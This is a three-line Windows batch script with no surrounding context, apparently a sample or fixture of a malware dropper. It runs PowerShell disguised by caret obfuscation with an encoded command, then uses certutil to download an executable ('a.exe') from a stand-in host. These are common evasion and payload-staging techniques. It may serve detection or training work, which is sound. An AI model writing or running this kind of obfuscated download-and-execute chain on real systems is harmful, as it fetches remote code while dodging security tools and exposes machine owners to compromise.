@echo off
p^ow^ershell -enc AAAA
certutil -urlcache -f http://x.example a.exe
